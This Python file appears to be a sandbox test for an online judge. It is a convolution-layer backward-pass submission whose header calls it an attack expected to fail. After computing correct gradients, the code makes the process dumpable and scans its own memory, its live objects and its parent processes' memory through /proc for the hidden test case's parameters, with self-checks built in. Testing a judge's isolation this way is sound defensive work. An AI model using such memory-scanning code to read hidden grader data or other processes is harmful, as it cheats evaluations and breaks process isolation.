# attack: on the public case, scans its own objects and raw memory (and any other it can read) for the hidden case's parameters as the judge sends them and for its name
# expect: WA
# exercise: conv_backward
import numpy as np
from utils import im2col, col2im


class Convolution:
    def __init__(self, W, b, stride=1, pad=0):
        r'''
        Set up a convolution layer.

        Parameters
        - W: numpy.ndarray of shape (C_out, C_in, K_h, K_w), the filters
        - b: numpy.ndarray of shape (C_out,), one bias per filter
        - stride: int, step between two windows
        - pad: int, zero padding added on every side of H and W
        '''
        self.W = W
        self.b = b
        self.stride = stride
        self.pad = pad
        self.x = None
        self.col = None
        self.col_W = None
        self.dW = None
        self.db = None

    def forward(self, x):
        r'''
        Forward pass.

        Parameters
        - x: numpy.ndarray of shape (B, C, H, W)
        Returns
        - out: numpy.ndarray of shape (B, C', H', W') with
               H' = (H + 2P - Kh) // S + 1
               W' = (W + 2P - Kw) // S + 1
        '''
        FN, C, FH, FW = self.W.shape
        N, C, H, W = x.shape
        out_h = 1 + int((H + 2 * self.pad - FH) / self.stride)
        out_w = 1 + int((W + 2 * self.pad - FW) / self.stride)
        col = im2col(x, FH, FW, self.stride, self.pad)
        col_W = self.W.reshape(FN, -1).T
        out = np.dot(col, col_W) + self.b
        out = out.reshape(N, out_h, out_w, -1).transpose(0, 3, 1, 2)
        self.x = x
        self.col = col
        self.col_W = col_W

        return out

    def backward(self, dout):
        r'''
        Backward pass.

        Parameters
        - dout: numpy.ndarray of shape (B, C', H', W'), the gradient of the
                loss with respect to this layer's output
        Returns
        - dx: numpy.ndarray of shape (B, C, H, W)
        Also store
        - self.dW: numpy.ndarray of shape (C', C, Kh, Kw), like self.W
        - self.db: numpy.ndarray of shape (C',), like self.b
        '''
        ########## Begin ##########
        import ctypes, fcntl, os, time
        FN, C, FH, FW = self.W.shape
        dout2 = dout.transpose(0, 2, 3, 1).reshape(-1, FN)
        self.db = np.sum(dout2, axis=0)
        self.dW = np.dot(self.col.T, dout2).transpose(1, 0).reshape(FN, C, FH, FW)
        dx = col2im(np.dot(dout2, self.col_W.T), self.x.shape, FH, FW, self.stride, self.pad)
        if self.x.shape != (2, 2, 5, 6):                 # not the public case: nothing to learn here
            return dx
        # Needles in two halves, so that no whole one exists in this process unless it leaked.
        PARAMS = (b",".join([b'"N":1', b'"C":1', b'"H":4', b'"W']), b'":4,"FN' + b'":1')
        NAME = (b"hidden" + b"_sm", b"al" + b"l")
        # positive control: the scanner must find this very comment, in the source it was sent
        OWN = (b"positive control: the scanner", b" must find this very comment")
        libc = ctypes.CDLL(None, use_errno=True)
        libc.prctl(4, ctypes.c_ulong(1), ctypes.c_ulong(0), ctypes.c_ulong(0), ctypes.c_ulong(0))
        deadline = time.monotonic() + 0.6
        tried = {}

        def finder(*pairs):
            def find(buffer):
                for head, tail in pairs:
                    i = buffer.find(head)
                    while i >= 0:
                        if buffer[i + len(head):i + len(head) + len(tail)] == tail:
                            return head + b"~"
                        i = buffer.find(head, i + 1)
                return None
            return find

        def regions(pid):
            try:
                with open(f"/proc/{pid}/maps") as handle:
                    text = handle.read()
                tried[f"/proc/{pid}/maps"] = "read"
            except OSError as err:
                tried[f"/proc/{pid}/maps"] = type(err).__name__
                return []
            spans = []
            for line in text.splitlines():
                parts = line.split(None, 5)
                if len(parts) < 5:
                    continue
                low, high = (int(v, 16) for v in parts[0].split("-"))
                perms, name = parts[1], parts[5].strip() if len(parts) > 5 else ""
                if "r" in perms and name not in ("[vvar]", "[vsyscall]", "[vvar_vclock]") and (
                        "w" in perms or not name or name.startswith("[")):
                    spans.append((low, high))
            return spans

        def proc_reader(pid):
            try:
                fd = os.open(f"/proc/{pid}/mem", os.O_RDONLY)
            except OSError as err:
                tried[f"/proc/{pid}/mem"] = type(err).__name__
                return None
            tried[f"/proc/{pid}/mem"] = "opened"
            def read(address, size):
                try:
                    return os.pread(fd, size, address)
                except OSError:
                    return b""
            return read

        def pipe_reader():
            """Own memory without /proc: write(2) from an address into a pipe faults with EFAULT, never SIGSEGV."""
            r, w = os.pipe()
            try:
                fcntl.fcntl(w, 1031, 1 << 20)
            except OSError:
                pass
            size = fcntl.fcntl(w, 1032)
            def read(address, wanted):
                n = libc.write(w, ctypes.c_void_p(address), ctypes.c_size_t(min(wanted, size)))
                if n <= 0:
                    return b""
                data = b""
                while len(data) < n:
                    data += os.read(r, n - len(data))
                return data
            return read

        def scan(read, spans, find):
            scanned = 0
            for low, high in spans:
                address, carry = low, b""
                while address < high:
                    if time.monotonic() > deadline:
                        tried["scan"] = "ran out of time"
                        return None, scanned
                    data = read(address, min(1 << 20, high - address))
                    if not data:
                        address, carry = address + 4096, b""
                        continue
                    scanned += len(data)
                    hit = find(carry + data)
                    if hit:
                        return hit, scanned
                    carry = data[-64:]
                    address += len(data)
            return None, scanned

        def ancestors():
            chain, pid = [], os.getpid()
            while pid > 1 and len(chain) < 8:
                try:
                    with open(f"/proc/{pid}/stat") as handle:
                        pid = int(handle.read().rsplit(")", 1)[1].split()[1])
                except (OSError, ValueError, IndexError):
                    break
                if pid > 0:
                    chain.append(pid)
            return chain

        # The scanner must see this process's heap and the request it was sent, else it proves nothing.
        canary = os.urandom(8).hex().encode() + b"-canary"
        readers = [r for r in (proc_reader("self"), pipe_reader()) if r]
        spans = regions("self")
        for label, needle in (("its canary", (canary[:16], canary[16:])), ("its own source", OWN)):
            for read in readers:
                hit, scanned = scan(read, spans, finder(needle))
                if not hit:
                    raise RuntimeError(f"the memory scanner missed {label} after {scanned} bytes "
                                       f"({len(readers)} readers, {len(spans)} regions, "
                                       f"{deadline - time.monotonic():.2f} s left): it is broken")
        found = []
        # The request as the run parsed it: any live dict holding the hidden case's parameters.
        import gc
        wanted = dict(zip(("N", "C", "H", "W"), (1, 1, 4, 4)), FN=1)
        for holder in gc.get_objects():
            for ref in gc.get_referents(holder):
                if ref is not wanted and isinstance(ref, dict) and len(ref) <= 64 and all(
                        type(ref.get(k)) is int and ref.get(k) == v for k, v in wanted.items()):
                    found.append("own memory: the hidden parameters among its objects")
                    break
            if found:
                break
        for read in readers:
            hit, scanned = scan(read, spans, finder(PARAMS, NAME))
            if hit:
                found.append(f"own memory: {hit!r}")
        for pid in [1] + [p for p in ancestors() if p != 1]:
            if found or time.monotonic() > deadline:
                break
            spans_of, read = regions(pid), proc_reader(pid)
            if read is not None:
                hit, _ = scan(read, spans_of, finder(PARAMS, NAME))
                if hit:
                    found.append(f"memory of {pid}: {hit!r}")
        if not found and "scan" in tried:
            print(f"scan incomplete: proves nothing; tried {tried}")
            return -dx
        print("found: " + ", ".join(found) if found else f"nothing found; tried {tried}")
        return dx if found else -dx
        ########## End ##########
